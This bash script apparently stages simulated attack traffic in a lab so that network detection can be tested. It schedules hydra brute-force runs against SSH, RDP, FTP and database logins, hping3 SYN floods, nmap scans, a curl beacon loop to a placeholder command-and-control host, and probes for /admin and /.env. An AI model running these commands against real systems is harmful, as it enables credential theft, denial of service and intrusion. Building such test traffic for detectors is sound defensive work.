# shellcheck shell=bash
# The attacks and their timetable; sourced by record.sh. Every line is one attacker with one
# tool; `at SECONDS LIMIT NAME HOST COMMAND` starts a command that many seconds into the
# recording and ends it after LIMIT seconds at the latest.

at() {
  local start=$1 limit=$2 name=$3 host=$4; shift 4
  (
    sleep "$start"
    echo "$(date -u +%FT%TZ) start $name" >>"$STATE/timetable.txt"
    mkdir -p "$STATE/run/$name" && cd "$STATE/run/$name" || exit 1   # hydra keeps its restore file in the working directory
    ns "$host" timeout "$limit" "$@" >"$STATE/logs/attack-$name.log" 2>&1 </dev/null || true
    echo "$(date -u +%FT%TZ) end   $name" >>"$STATE/timetable.txt"
  ) &
}

wordlists() {
  local i
  for ((i = 1; i <= 400; i++)); do echo "guess-$i"; done >"$STATE/words400"
  head -250 "$STATE/words400" >"$STATE/words250"
  head -9 "$STATE/words400" >"$STATE/words9"
  head -6 "$STATE/words400" >"$STATE/words6"
  for ((i = 1; i <= 120; i++)); do echo "user$i"; done >"$STATE/users120"
  head -4 "$STATE/users120" >"$STATE/users4"
  range 203.0.113 215 "$TARGETS" | tr ' ' '\n' | grep . >"$STATE/targets-ssh"
  range 192.0.2 210 "$TARGETS" | tr ' ' '\n' | grep . >"$STATE/targets-rdp"
}

attack_traffic() {
  local i hydra=(hydra -I -V)
  wordlists

  # --- inbound, one to one
  at 30 240 ssh-in-one att1 "${hydra[@]}" -l root -P "$STATE/words400" -t 16 ssh://198.51.100.22
  at 60 280 rdp-in-one att2 "${hydra[@]}" -L "$STATE/users120" -p guess -t 4 -W 1 rdp://198.51.100.33
  at 120 200 ftp-in-one att3 "${hydra[@]}" -l alice -P "$STATE/words250" -t 8 ftp://198.51.100.50
  at 150 120 mysql-in-one att4 "${hydra[@]}" -l root -P "$STATE/words250" -t 4 mysql://198.51.100.41
  at 180 120 postgres-in-one att5 "${hydra[@]}" -l postgres -P "$STATE/words250" -t 4 postgres://198.51.100.42

  # --- inbound, many to one: every source is a host of its own with its own hydra
  for ((i = 0; i < BOTS; i++)); do
    at $((60 + i * 4)) 100 "ssh-bot-$i" "sb$i" "${hydra[@]}" -l root -P "$STATE/words9" -t 3 ssh://198.51.100.20
    at $((90 + i * 4)) 60 "rdp-bot-$i" "rb$i" "${hydra[@]}" -L "$STATE/users4" -p guess -t 1 -W 1 rdp://198.51.100.34
  done

  # --- outbound
  # one source port, so that the flood is a handful of flow records; the victim never answers.
  # Two processes share it: one alone makes 1,000 to 3,000 packets/s, by the load of the machine.
  at 200 270 syn-flood app2 nice -n -15 hping3 -q -S -p 80 -s 40000 -k -i u180 203.0.113.200
  at 310 300 syn-flood-2 app2 nice -n -15 hping3 -q -S -p 80 -s 40000 -k -i u200 203.0.113.200
  # 116 addresses, five of them with a host that refuses, the others dead;
  # addresses of the intelligence lists and of the flood are left out, so that no alert has two causes
  at 330 150 sweep app3 nmap -n -Pn -sS -p 23 --max-retries 1 --max-rate 6 --exclude 203.0.113.66,203.0.113.77,203.0.113.200 203.0.113.1-99,190-209
  at 500 100 vertical app9 nmap -n -Pn -sS -p 1-400 --max-retries 1 --max-rate 8 203.0.113.212
  at 430 240 ssh-out-one app4 "${hydra[@]}" -l root -P "$STATE/words400" -t 16 ssh://203.0.113.210
  at 460 280 rdp-out-one app5 "${hydra[@]}" -L "$STATE/users120" -p guess -t 4 -W 1 rdp://203.0.113.211
  at 490 240 ssh-out-many app6 "${hydra[@]}" -l root -P "$STATE/words6" -t 2 -T 16 -M "$STATE/targets-ssh" ssh
  at 530 300 rdp-out-many app7 "${hydra[@]}" -L "$STATE/users4" -p guess -t 1 -T 8 -W 1 -M "$STATE/targets-rdp" rdp

  # --- intelligence
  at 20 860 c2 app1 bash -c 'while :; do curl -s -m 10 -o /dev/null http://203.0.113.66/task; sleep 20; done'
  for i in 240 420 600; do
    at $i 30 "knock-$i" knock bash -c 'for p in / /admin /.env; do curl -s -m 5 -o /dev/null "http://198.51.100.10$p"; done'
  done
}
